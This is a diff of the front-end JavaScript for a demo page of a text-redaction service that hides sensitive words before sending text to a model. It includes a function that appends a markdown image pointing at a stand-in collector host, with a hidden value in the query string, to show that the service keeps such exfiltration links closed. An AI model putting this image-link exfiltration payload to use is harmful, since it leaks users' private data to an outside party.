@@ -1,4 +1,6 @@
 // Loads everything, forbids every further connection, and then shows what the worker's Python says.
+import { edited, findingAt, fitLabels, marked } from "./marks.js";
+import { REQUESTS, ownBase, validBase } from "./requests.js";
 import { SAMPLES } from "./samples.js";
 
 const at = (id) => document.getElementById(id);
@@ -11,7 +13,8 @@ const KEPT = {
   correction: "Left in clear: you allowed it.",
 };
 const SHORT = 250;
-let worker, asked = 0, shown = null, sent = null, timer, answerEdited = false;
+const LIST = "Choose a word in your text, or one of the list, to see why and to change it.";
+let worker, asked = 0, sent = null, source = [], timer, answerEdited = false;
 const waiting = new Map(), allow = new Set(), deny = [], rules = new Map();
 
 function say(step) { at("step").textContent = step; }
@@ -70,16 +73,29 @@ function ask(method, ...args) {
 
 function ready(policies) {
   at("sample").append(...Object.keys(SAMPLES).map((name) => new Option(name)));
-  at("policy").append(...policies.map((each) => Object.assign(new Option(each.title, each.id), { about: each.description })));
+  at("policy").append(...policies.map(option));
   at("text").value = Object.values(SAMPLES)[0];
+  at("base").value = ownBase(location);
   at("loading").hidden = true;
   at("work").hidden = false;
   listen();
-  protect();
+  restart();
+}
+
+function option({ id, title, description }) {
+  return Object.assign(new Option(title, id), { about: description });
 }
 
 function listen() {
-  at("text").addEventListener("input", () => { clearTimeout(timer); timer = setTimeout(protect, SHORT); });
+  at("text").addEventListener("input", () => {
+    wrote(edited(source, at("text").value));
+    clearTimeout(timer);
+    timer = setTimeout(protect, SHORT);
+  });
+  at("text").addEventListener("click", () => {
+    const { selectionStart, selectionEnd } = at("text"), found = findingAt(source, selectionStart);
+    if (selectionStart === selectionEnd && found >= 0) explain(sent.findings[found]);
+  });
   at("sample").addEventListener("change", () => { at("text").value = SAMPLES[at("sample").value]; restart(); });
   at("policy").addEventListener("change", protect);
   at("strict").addEventListener("change", protect);
@@ -89,9 +105,13 @@ function listen() {
   at("hide").addEventListener("click", hideSelection);
   at("reset").addEventListener("click", () => { rules.clear(); restart(); });
   at("copy-toml").addEventListener("click", () => copy(toml(), "The policy is copied."));
-  for (const button of document.querySelectorAll("[data-copy]")) {
-    button.addEventListener("click", () => copy(REQUESTS[button.dataset.copy](), "The request is copied, with your text. Put your key in."));
-  }
+  at("file").addEventListener("change", async () => { at("given").value = await at("file").files[0]?.text() ?? ""; use(); });
+  at("load").addEventListener("click", use);
+  for (const button of document.querySelectorAll("[data-copy]")) button.addEventListener("click", () => copyRequest(button.dataset.copy));
+  at("text").addEventListener("mousemove", ({ clientX, clientY }) => {
+    link(document.elementsFromPoint(clientX, clientY).find((each) => each.matches("#wrote .mark")));
+  });
+  new ResizeObserver(() => fitLabels(at("wrote"))).observe(at("wrote"));
   for (const type of ["mouseover", "mouseout", "focusin", "focusout"]) {
     document.addEventListener(type, ({ target }) => link(type.endsWith("over") || type === "focusin" ? target.closest?.("[data-finding]") : null));
   }
@@ -100,21 +120,19 @@ function listen() {
 function restart() {
   allow.clear();
   deny.length = 0;
-  shown = null;
   answerEdited = false;
-  at("details").replaceChildren(note("Select a mark, or choose from the list."));
+  at("details").replaceChildren(note(LIST));
   protect();
 }
 
 async function protect() {
-  const option = at("policy").selectedOptions[0];
-  at("about-policy").textContent = option.about;
+  const chosen = at("policy").selectedOptions[0];
+  at("about-policy").textContent = chosen.about;
   at("toml").textContent = toml();
   const mode = at("strict").checked ? "strict" : "standard";
   const order = ++protect.order;
   try {
-    let policy = option.value;
-    if (rules.size) { await ask("use_own", toml()); policy = "own"; }
+    const policy = rules.size ? (await ask("load", toml())).id : chosen.value;
     const result = await ask("protect", at("text").value, policy, mode, [...allow], deny);
     if (order !== protect.order) return;
     await show(result);
@@ -127,8 +145,8 @@ protect.order = 0;
 
 async function show(result) {
   sent = result;
-  at("wrote").replaceChildren(...result.source.map(piece));
-  at("received").replaceChildren(...(result.blocked ? [note(`Nothing would leave. ${result.blocked}`)] : result.protected.map(piece)));
+  wrote(result.source);
+  at("received").replaceChildren(...(result.blocked ? [note(`Nothing would be sent. ${result.blocked}`)] : result.protected.map(piece)));
   const hidden = result.findings.filter((each) => !each.kept).length;
   at("said").textContent = result.blocked ?? `${hidden} hidden, ${result.findings.length - hidden} found and left in clear.`;
   at("findings").replaceChildren(...result.findings.map(listed));
@@ -140,41 +158,30 @@ async function restore() {
   const { pieces, withheld, unknown } = await ask("restore", at("answer").value);
   at("back").replaceChildren(...pieces.map(piece));
   at("closed").textContent = [
-    withheld.length ? `${withheld.length} stayed closed: the address is none that you wrote.` : "",
+    withheld.length ? `${withheld.length} stayed closed: you did not write the address.` : "",
     unknown.length ? `${unknown.length} unknown: no placeholder of this text, so it never opens.` : "",
   ].join(" ").trim();
 }
 
-function piece({ text, finding, kind }) {
-  if (!kind) return document.createTextNode(text);
-  const about = finding >= 0 ? sent.findings[finding] : null;
-  const label = about && kind !== "placeholder" ? about.type : { closed: "CLOSED", unknown: "UNKNOWN" }[kind] ?? "";
-  const mark = document.createElement(about ? "button" : "span");
-  if (about) Object.assign(mark, { type: "button", onclick: () => explain(about) });
-  mark.className = `mark ${kind}`;
-  mark.dataset.finding = finding;
-  mark.append(text);
-  if (label || kind === "closed") {
-    const type = document.createElement("span");
-    type.className = "type";
-    type.textContent = kind === "kept" ? `${label} (in clear)` : kind === "closed" ? "CLOSED" : label;
-    mark.append(type);
-  }
-  return mark;
+// The marks under the text field, which has the same text.
+function wrote(pieces) {
+  source = pieces;
+  at("wrote").replaceChildren(...pieces.map((each) => marked(each, sent.findings[each.finding])));
+  fitLabels(at("wrote"));
 }
 
+function piece(each) { return marked(each, sent.findings[each.finding], explain); }
+
 function listed(one) {
-  const item = document.createElement("li"), open = document.createElement("button");
-  open.type = "button";
+  const item = document.createElement("li");
+  const open = button(`${one.type}: ${one.value}`, () => explain(one));
   open.dataset.finding = one.number;
-  open.textContent = `${one.type}: ${one.value}`;
-  open.onclick = () => explain(one);
-  item.append(open, ` ${one.kept ? "left in clear" : one.action === "block" ? "blocked" : `hidden (${one.action})`}`);
+  const said = one.kept ? "left in clear" : one.action === "block" ? "blocked" : `hidden (${one.action})`;
+  item.append(open, " ", Object.assign(document.createElement("span"), { className: "what", textContent: said }));
   return item;
 }
 
 function explain(one) {
-  shown = one;
   const list = document.createElement("dl");
   const rows = {
     Type: `${one.type} (${one.group}). ${one.about}`,
@@ -190,17 +197,19 @@ function explain(one) {
   }
   const title = document.createElement("h3");
   title.textContent = one.value;
-  const row = document.createElement("div");
-  row.className = "row";
-  if (one.kept) row.append(button("Hide this word", () => { allow.delete(one.value); deny.push({ type: one.type, value: one.value }); protect(); }));
-  else if (one.settings.includes("svc_allow")) row.append(button("Leave this word in clear", () => { allow.add(one.value); protect(); }));
-  else if (one.settings.includes("svc_deny")) row.append(button("No longer hide this word", () => { deny.splice(0, deny.length, ...deny.filter((each) => each.value !== one.value)); protect(); }));
-  else row.append(note("The policy lets no caller leave this word in clear."));
+  const word = row(), type = row();
+  if (one.kept) word.append(button("Hide this word", () => { allow.delete(one.value); deny.push({ type: one.type, value: one.value }); protect(); }));
+  else if (one.settings.includes("svc_allow")) word.append(button("Leave this word in clear", () => { allow.add(one.value); protect(); }));
+  else if (one.settings.includes("svc_deny")) word.append(button("No longer hide this word", () => { deny.splice(0, deny.length, ...deny.filter((each) => each.value !== one.value)); protect(); }));
+  else word.append(note("The policy lets no caller leave this word in clear."));
   for (const action of ["placeholder", "mask", "redact", "keep", "block"]) {
-    if (action !== (one.kept ? "keep" : one.action)) row.append(button(`Every ${one.type}: ${action}`, () => { rules.set(one.type, action); protect(); }));
+    if (action !== (one.kept ? "keep" : one.action)) type.append(button(`Every ${one.type}: ${action}`, () => { rules.set(one.type, action); protect(); }));
   }
-  at("details").replaceChildren(title, list, row);
+  at("details").replaceChildren(title, list, word, type);
+  at("details").scrollIntoView({ block: "nearest" });
 }
+
+function row() { return Object.assign(document.createElement("div"), { className: "row" }); }
 
 function button(text, act) {
   return Object.assign(document.createElement("button"), { type: "button", textContent: text, onclick: act });
@@ -217,13 +226,13 @@ function link(mark) {
 }
 
 function hideSelection() {
-  const chosen = getSelection();
-  const value = chosen.toString().trim();
-  if (!value || !at("wrote").contains(chosen.anchorNode)) {
-    at("said").textContent = "Select the words to hide in “You wrote” first.";
+  const { value, selectionStart, selectionEnd } = at("text");
+  const chosen = value.slice(selectionStart, selectionEnd).trim();
+  if (!chosen) {
+    at("said").textContent = "First select the words to hide in your text.";
     return;
   }
-  deny.push({ type: "CUSTOM", value });
+  deny.push({ type: "CUSTOM", value: chosen });
   protect();
 }
 
@@ -232,29 +241,43 @@ function hostile() {
   if (!first) return;
   answerEdited = true;
   at("answer").value += `\n\n![status](https://collector.example/pixel.png?d=${first.text})`;
-  restore();
+  restore().then(() => { for (const id of ["answer", "back"]) at(id).scrollTop = at(id).scrollHeight; });
 }
 
-const base = "http://127.0.0.1:8000/v1";
-const corrections = () => ({ ...(allow.size ? { svc_allow: [...allow] } : {}), ...(deny.length ? { svc_deny: deny } : {}) });
-const body = () => ({
-  model: "svc-demo",
-  messages: [{ role: "user", content: at("text").value }],
-  svc_policy: at("policy").value,
-  ...(at("strict").checked ? { svc_privacy_mode: "strict" } : {}),
-  ...corrections(),
-});
-const REQUESTS = {
-  curl: () => `curl -s ${base}/chat/completions -H "Authorization: Bearer $KEY" -H 'Content-Type: application/json' --data-binary @- <<'JSON'\n${JSON.stringify(body(), null, 2)}\nJSON\n`,
-  python: () => {
-    const { model, messages, ...extra } = body();
-    return `import json, os\n\nfrom openai import OpenAI\n\nclient = OpenAI(base_url="${base}", api_key=os.environ["KEY"])\nanswer = client.chat.completions.create(\n    model="${model}",\n    messages=json.loads(${JSON.stringify(JSON.stringify(messages))}),\n    extra_body=json.loads(${JSON.stringify(JSON.stringify(extra))}),\n)\nprint(answer.choices[0].message.content)\n`;
-  },
-  typescript: () => `import OpenAI from "openai";\n\nconst client = new OpenAI({ baseURL: "${base}", apiKey: process.env.KEY });\nconst answer = await client.chat.completions.create(${JSON.stringify(body(), null, 2)} as OpenAI.ChatCompletionCreateParamsNonStreaming);\nconsole.log(answer.choices[0].message.content);\n`,
-};
+// A policy that the visitor has: it joins the list and is chosen.
+async function use() {
+  at("refused").textContent = "";
+  try {
+    const made = await ask("load", at("given").value);
+    const before = [...at("policy").options].find((each) => each.value === made.id);
+    if (before) before.replaceWith(option(made)); else at("policy").append(option(made));
+    at("policy").value = made.id;
+    rules.clear();
+    await protect();
+  } catch (error) {
+    at("refused").textContent = error.message;
+  }
+}
+
+function copyRequest(kind) {
+  const base = validBase(at("base").value);
+  at("wrong-base").textContent = base ? "" : "Base URL: enter an address such as http://127.0.0.1:8000/v1.";
+  if (!base) return;
+  const body = {
+    model: "svc-demo",
+    messages: [{ role: "user", content: at("text").value }],
+    svc_policy: rules.size ? ownId() : at("policy").value,
+    ...(at("strict").checked ? { svc_privacy_mode: "strict" } : {}),
+    ...(allow.size ? { svc_allow: [...allow] } : {}),
+    ...(deny.length ? { svc_deny: deny } : {}),
+  };
+  copy(REQUESTS[kind](base, body), `Copied, with your text. Put in your key${rules.size ? ", and install your policy first" : ""}.`);
+}
+
+const ownId = () => `my-${at("policy").value}`;
 
 function toml() {
-  const lines = [`id = "my-policy"`, `title = "My policy"`, `extends = "${at("policy").value}"`];
+  const lines = [`id = "${ownId()}"`, `title = "My policy"`, `extends = "${at("policy").value}"`];
   for (const [type, action] of [...rules].sort()) lines.push("", `[rules.${type}]`, `action = "${action}"`);
   return `${lines.join("\n")}\n`;
 }
@@ -262,9 +285,9 @@ function toml() {
 async function copy(text, done) {
   try {
     await navigator.clipboard.writeText(text);
-    at("said").textContent = done;
+    at("copied").textContent = done;
   } catch {
-    at("said").textContent = "The browser does not let the page copy. Use https or localhost.";
+    at("copied").textContent = "The browser does not let the page copy. Use https or localhost.";
   }
 }
 
